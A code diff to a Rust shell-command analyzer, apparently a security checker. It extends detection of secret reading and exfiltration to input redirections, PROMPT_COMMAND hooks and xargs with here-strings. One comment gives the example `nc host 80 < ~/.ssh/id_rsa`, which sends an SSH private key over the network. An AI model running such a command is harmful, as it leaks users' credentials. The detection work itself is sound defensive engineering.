@@ -92,6 +92,8 @@ pub struct Walker<'a> {
     downloaded: Vec<(String, String)>,
     /// Output redirection targets of the command being walked.
     redirect_targets: Vec<String>,
+    /// Files the command being walked reads through `< FILE`.
+    input_sources: Vec<String>,
 }
 
 fn cut(s: &str) -> String {
@@ -126,6 +128,7 @@ impl<'a> Walker<'a> {
             written: Vec::new(),
             downloaded: Vec::new(),
             redirect_targets: Vec::new(),
+            input_sources: Vec::new(),
         }
     }
 
@@ -547,6 +550,7 @@ impl<'a> Walker<'a> {
         }
         let mut writes = false;
         self.redirect_targets.clear();
+        self.input_sources.clear();
         for io in redirects {
             writes |= self.walk_redirect(io, depth, &mut feed);
         }
@@ -558,6 +562,16 @@ impl<'a> Walker<'a> {
         }
         if argv.is_empty() {
             return Stage::default();
+        }
+        // `CMD < FILE` reads FILE like `cat FILE | CMD`: the secret-reading and exfiltration
+        // rules judge it in that form (`nc host 80 < ~/.ssh/id_rsa`)
+        if !self.input_sources.is_empty() {
+            let consumer = canon::render(&argv);
+            for f in std::mem::take(&mut self.input_sources) {
+                let reader = format!("cat {}", canon::quote(&f));
+                self.rule_hits(Target::Command, &reader);
+                self.rule_hits(Target::Pipeline, &format!("{reader} | {consumer}"));
+            }
         }
         if !root_risk.is_empty() && is_destructive(&argv) {
             let text = canon::join(&argv);
@@ -694,6 +708,10 @@ impl<'a> Walker<'a> {
                 // what is assigned can matter by itself (a literal secret, a look-alike URL)
                 let text = format!("{name}={}", canon::quote(&e.text));
                 self.rule_hits(Target::Command, &text);
+                // bash runs PROMPT_COMMAND before every prompt
+                if name == "PROMPT_COMMAND" && !e.text.is_empty() {
+                    self.walk_script(&e.text, depth + 1);
+                }
                 if e.dynamic || a.append {
                     self.env.remove(&name);
                 } else {
@@ -725,6 +743,10 @@ impl<'a> Walker<'a> {
                         let e = self.expand_word(&w.value, depth);
                         if writes {
                             return self.write_target(&e.text);
+                        }
+                        if matches!(kind, IoFileRedirectKind::Read) && self.input_sources.len() < 8
+                        {
+                            self.input_sources.push(e.text);
                         }
                         false
                     }
@@ -845,6 +867,9 @@ impl<'a> Walker<'a> {
                 {
                     self.env.insert(k.to_string(), v.to_string());
                 }
+                if let Some(v) = a.strip_prefix("PROMPT_COMMAND=") {
+                    self.walk_script(v, depth + 1);
+                }
             }
         }
         let inners = unwrap::unwrap(&argv);
@@ -852,6 +877,12 @@ impl<'a> Walker<'a> {
             ("xargs", Some(Inner::Argv(cmd))) => xargs_mode(&argv).map(|p| (cmd.clone(), p)),
             _ => None,
         };
+        // `xargs CMD <<< PATHS` / `xargs CMD <<EOF`: the words xargs adds are known
+        if let (Some((cmd, placeholder)), Some(body)) = (&xargs, feed) {
+            for argv in xargs_commands(cmd, placeholder.as_deref(), body) {
+                self.run_argv(argv, depth + 1, None);
+            }
+        }
         let transparent = !inners.is_empty()
             && inners.iter().all(|i| matches!(i, Inner::Argv(_)))
             && !matches!(
